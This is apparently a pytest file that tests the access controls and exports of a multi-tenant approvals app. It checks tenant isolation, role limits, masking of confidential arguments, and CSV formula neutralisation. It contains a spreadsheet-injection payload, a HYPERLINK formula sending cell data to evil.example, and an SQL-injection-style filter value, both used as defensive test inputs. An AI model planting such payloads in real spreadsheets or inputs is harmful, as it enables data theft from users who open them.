"""A tenant's decision history (page, CSV / JSONL export, API), tried by the people who must not read it
or must not find a secret in it: another tenant's admin and auditor, a viewer, a plain approver, and an
auditor looking for a confidential argument or planting a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from rest_framework.test import APIClient

from approvals.decisions import EXPORT_BATCH, safe_cell
from approvals.models import ApprovalEvent
from approvals.services import cancel_approvals_for_run, decide_approval, expire_approval
from console.models import Role, TokenScope
from console.services import create_personal_token
from tests.approvals.factories import REFUND_SCHEMA, open_request
from tests.approvals.gate_world import create_active_version, downstream_manifest
from tests.conftest import make_user

pytestmark = pytest.mark.django_db

CONFIDENTIAL_ORDER = "ord_Platypus7731"
CONFIDENTIAL_NOTE = "Kumquat-Nebula settlement"
CARD_TOKEN = "tok_Xylophone0042"
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'


def _confidential_version():
    body = downstream_manifest("billing.refund_private", schema=REFUND_SCHEMA, approval="two_person")
    body["risk"]["data_classification"] = "confidential"
    return create_active_version(body)


@pytest.fixture
def history(acme, agent, approver, second_approver):
    """One of each decision in acme: approved, edit-approved, declined (with a formula for a reason), a first
    vote on a confidential request still open (its raw arguments sealed, unsealable), expired, cancelled."""
    approved = open_request(tenant=acme, agent=agent)
    decide_approval(approval=approved, user=approver, decision="approve")
    edited = open_request(tenant=acme, agent=agent)
    decide_approval(
        approval=edited,
        user=approver,
        decision="approve",
        arguments={"customer_id": "c-42", "amount_cents": 900, "card_token": "••••••", "note": "duplicate"},
    )
    declined = open_request(tenant=acme, agent=agent, arguments={"customer_id": "c-9", "amount_cents": 5})
    decide_approval(approval=declined, user=second_approver, decision="decline", reason=FORMULA)
    secret_arguments = {
        "customer_id": CONFIDENTIAL_ORDER,
        "amount_cents": 73519,
        "card_token": CARD_TOKEN,
        "note": CONFIDENTIAL_NOTE,
    }
    voted = open_request(tenant=acme, agent=agent, skill_version=_confidential_version(), arguments=secret_arguments)
    decide_approval(approval=voted, user=approver, decision="approve")
    expired = open_request(tenant=acme, agent=agent)
    expired.expires_at = timezone.now() - timedelta(seconds=1)
    expired.save(update_fields=["expires_at"])
    expire_approval(approval=expired)
    cancelled = open_request(tenant=acme, agent=agent)
    cancel_approvals_for_run(run=cancelled.call.run, reason="the agent cancelled its run")
    return {"approved": approved, "edited": edited, "declined": declined, "voted": voted}


def _page(client, tenant="acme", **params):
    return client.get(reverse("approvals:decision_history", args=[tenant]), params)


def _export(client, fmt, tenant="acme", **params):
    response = client.get(reverse("approvals:decision_export", args=[tenant]), {"format": fmt, **params})
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return response, body


def test_an_auditor_sees_every_kind_of_decision_linked_to_its_request_and_trace(client, auditor, history):
    client.force_login(auditor)
    response = _page(client)
    assert response.status_code == 200
    page = response.content.decode()
    for word in ("approved", "edit-approved", "declined", "first of two approvals", "expired", "cancelled"):
        assert word in page, word
    approved = history["approved"]
    assert reverse("approvals:detail", args=[approved.pk]) in page
    assert reverse("traces:for_run", args=[approved.call.run_id]) in page
    # ...and the links open for the auditor, read-only: the run's timeline, the request without a decision form.
    timeline = client.get(reverse("traces:for_run", args=[approved.call.run_id]), follow=True)
    assert timeline.status_code == 200 and "approval.approved" in timeline.content.decode()
    voted = history["voted"].pk
    detail = client.get(reverse("approvals:detail", args=[voted]))
    assert detail.status_code == 200 and reverse("approvals:decide", args=[voted]) not in detail.content.decode()


def test_the_nav_links_the_history_for_admins_and_auditors_only(client, auditor, tenant_admin, approver, viewer):
    url = reverse("approvals:decision_history", args=["acme"])
    for user, shown in ((auditor, True), (tenant_admin, True), (approver, False), (viewer, False)):
        client.force_login(user)
        assert (url in client.get(reverse("traces:list")).content.decode()) is shown, user.username


def test_filters_narrow_the_history(client, tenant_admin, history, second_approver):
    client.force_login(tenant_admin)
    rows = lambda **f: [json.loads(line) for line in _export(client, "jsonl", **f)[1].splitlines()]  # noqa: E731
    assert len(rows()) == 6
    assert [r["outcome"] for r in rows(outcome="edited")] == ["edit-approved"]
    assert {r["outcome"] for r in rows(outcome="approved")} == {"approved", "edit-approved"}
    assert [r["outcome"] for r in rows(approver=second_approver.username)] == ["declined"]
    assert [r["outcome"] for r in rows(skill="refund_private")] == ["vote"]
    assert len(rows(agent="support-bot")) == 6 and rows(agent="nobody") == []
    today = timezone.now().date()
    assert len(rows(date_from=today.isoformat(), date_to=today.isoformat())) == 6
    assert rows(date_from=(today + timedelta(days=1)).isoformat()) == []


@pytest.mark.parametrize(
    ("params", "named"),
    [
        ({"date_from": "2026-13-45"}, "date_from"),
        ({"date_to": "yesterday"}, "date_to"),
        ({"date_from": "2026-05-02", "date_to": "2026-05-01"}, "start date is after the end date"),
        ({"outcome": "approved';--"}, "outcome"),
    ],
)
def test_a_bad_filter_is_a_clear_400_everywhere(client, auditor, history, params, named):
    client.force_login(auditor)
    page = _page(client, **params)
    assert page.status_code == 400 and named in page.content.decode()
    response, body = _export(client, "csv", **params)
    assert response.status_code == 400 and named in body.decode()
    api = client.get(reverse("approvals_api:decision_list"), params)
    assert api.status_code == 400
    assert api.json()["error"]["code"] == "invalid_filter" and named in api.json()["error"]["message"]


def test_an_unknown_export_format_is_a_400(client, auditor, history):
    client.force_login(auditor)
    assert _export(client, "xlsx")[0].status_code == 400
    api = client.get(reverse("approvals_api:decision_list"), {"format": "xlsx"})
    assert api.status_code == 400 and api.json()["error"]["code"] == "invalid_format"


def test_a_confidential_argument_never_reaches_an_export(client, auditor, history):
    """The open two-person request still holds its raw arguments sealed; the export must not unseal them,
    nor show the hash and preview kept at rest, nor the sensitive card token of an internal skill."""
    client.force_login(auditor)
    for fmt in ("csv", "jsonl"):
        response, body = _export(client, fmt)
        assert response.status_code == 200 and response.streaming
        for planted in (CONFIDENTIAL_ORDER, CONFIDENTIAL_NOTE, CARD_TOKEN, "tok_live_secret", "73519"):
            assert planted.encode() not in body, (fmt, planted)
    lines = [json.loads(line) for line in _export(client, "jsonl")[1].splitlines()]
    vote = next(row for row in lines if row["outcome"] == "vote")
    assert vote["arguments"] is None and vote["skill"] == "billing.refund_private"
    approved = next(row for row in lines if row["outcome"] == "approved")
    assert approved["arguments"]["customer_id"] == "c-42"  # internal skills: the stored form, masked
    assert approved["arguments"]["card_token"] == "••••••"
    edited = next(row for row in lines if row["outcome"] == "edit-approved")
    assert edited["changes"] == [{"path": "/amount_cents", "op": "replace", "from": 1250, "to": 900}]
    api = client.get(reverse("approvals_api:decision_list"), {"format": "jsonl"})
    assert CONFIDENTIAL_ORDER.encode() not in b"".join(api.streaming_content)


def test_a_formula_in_a_reason_is_text_in_the_csv(client, auditor, history):
    client.force_login(auditor)
    response, body = _export(client, "csv")
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="decisions-acme-')
    rows = list(csv.DictReader(io.StringIO(body.decode())))
    declined = next(row for row in rows if row["outcome"] == "declined")
    assert declined["reason"] == "'" + FORMULA
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values()), row


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_formula_lead_is_neutralised(value):
    assert safe_cell(value) == "'" + value
    assert safe_cell("plain") == "plain" and safe_cell(None) == ""


def test_a_plain_approver_keeps_my_decisions_but_not_the_history(client, approver, viewer, history):
    for user in (approver, viewer):
        client.force_login(user)
        assert _page(client).status_code == 403
        assert _export(client, "csv")[0].status_code == 403
        api = client.get(reverse("approvals_api:decision_list"))
        assert api.status_code == 403 and api.json()["error"]["code"] == "not_allowed"
        assert client.get(reverse("approvals_api:decision_list"), {"tenant": "acme"}).status_code == 403
    client.force_login(approver)
    assert "billing.create_refund" in client.get(reverse("approvals:history")).content.decode()


def test_another_tenants_admin_and_auditor_see_none_of_it(client, globex, history):
    for role in (Role.ADMIN, Role.AUDITOR):
        client.force_login(make_user(f"globex-{role}", tenant=globex, roles=[role]))
        assert _page(client).status_code == 404
        assert _export(client, "jsonl")[0].status_code == 404
        assert client.get(reverse("approvals_api:decision_list"), {"tenant": "acme"}).status_code == 404
        assert client.get(reverse("approvals_api:decision_list")).json()["results"] == []
        _, own = _export(client, "jsonl", tenant="globex")
        assert own == b""


def test_the_api_pages_with_a_personal_token_and_streams_exports(auditor, history):
    _, key = create_personal_token(user=auditor, name="audit", scopes=[TokenScope.READ])
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Bearer {key}")
    first = api.get(reverse("approvals_api:decision_list"), {"limit": 4})
    assert first.status_code == 200
    rest = api.get(first.json()["next"])
    ids = [row["id"] for row in first.json()["results"] + rest.json()["results"]]
    assert len(ids) == 6 == len(set(ids))
    expected = list(ApprovalEvent.objects.filter(action__in=["approved", "declined", "vote", "expired", "cancelled"]))
    assert sorted(ids) == sorted(e.pk for e in expected)
    export = api.get(reverse("approvals_api:decision_list"), {"format": "csv", "outcome": "declined"})
    assert export.status_code == 200 and export["Content-Type"].startswith("text/csv")
    assert len(list(csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode())))) == 1


def test_the_export_streams_in_batches_past_one_batch(
    client, auditor, acme, agent, approver, django_assert_max_num_queries
):
    """More rows than one batch: every row comes out once, newest first, with a bounded number of queries."""
    request = open_request(tenant=acme, agent=agent)
    decide_approval(approval=request, user=approver, decision="decline", reason="no")
    event = ApprovalEvent.objects.get(action="declined")
    template = {f.name: getattr(event, f.name) for f in ApprovalEvent._meta.concrete_fields if f.name != "id"}
    ApprovalEvent.objects.bulk_create(ApprovalEvent(**template) for _ in range(EXPORT_BATCH + 20))
    client.force_login(auditor)
    response = client.get(reverse("approvals:decision_export", args=["acme"]), {"format": "jsonl"})
    with django_assert_max_num_queries(12):
        lines = b"".join(response.streaming_content).splitlines()
    ids = [json.loads(line)["id"] for line in lines]
    assert len(ids) == EXPORT_BATCH + 21 == len(set(ids))


def test_the_history_page_is_paginated_with_a_fixed_number_of_queries(
    client, auditor, history, django_assert_max_num_queries
):
    client.force_login(auditor)
    with django_assert_max_num_queries(20):
        assert _page(client).status_code == 200


def test_an_auditor_cannot_decide_by_any_door(client, auditor, acme, agent):
    """Session and a token with the approve scope alike: 403, and the request stays pending."""
    request = open_request(tenant=acme, agent=agent)
    client.force_login(auditor)
    console = client.post(reverse("approvals:decide", args=[request.pk]), {"decision": "approve"})
    assert console.status_code == 403
    _, key = create_personal_token(user=auditor, name="sneaky", scopes=[TokenScope.READ, TokenScope.APPROVE])
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Bearer {key}")
    answer = api.post(reverse("approvals_api:approval_decision", args=[request.pk]), {"decision": "approve"})
    assert answer.status_code == 403
    request.refresh_from_db()
    assert request.is_pending and not ApprovalEvent.objects.filter(action__in=["approved", "vote"]).exists()


def test_an_admin_invites_an_auditor_who_then_reads_the_history(client, tenant_admin, acme, history):
    """The invitation form offers the role; the accepted invitation is all it takes, and nothing more."""
    from console.models import Invitation, Membership

    client.force_login(tenant_admin)
    members = client.get(reverse("console:member_list", args=["acme"])).content.decode()
    assert 'value="auditor"' in members
    client.post(reverse("console:invitation_create", args=["acme"]), {"address": "newauditor", "roles": ["auditor"]})
    newcomer = make_user("newauditor")
    client.force_login(newcomer)
    assert _page(client).status_code == 404  # not a member until they accept
    client.post(reverse("console:invitation_accept", args=[Invitation.objects.get(username="newauditor").pk]))
    assert set(Membership.objects.filter(user=newcomer).values_list("role", flat=True)) == {"auditor"}
    assert _page(client).status_code == 200
    assert client.get(reverse("approvals:inbox")).status_code == 200  # an empty inbox: not an approver
    assert history["approved"].pk not in [
        c["approval"].pk for c in client.get(reverse("approvals:inbox")).context["cards"]
    ]
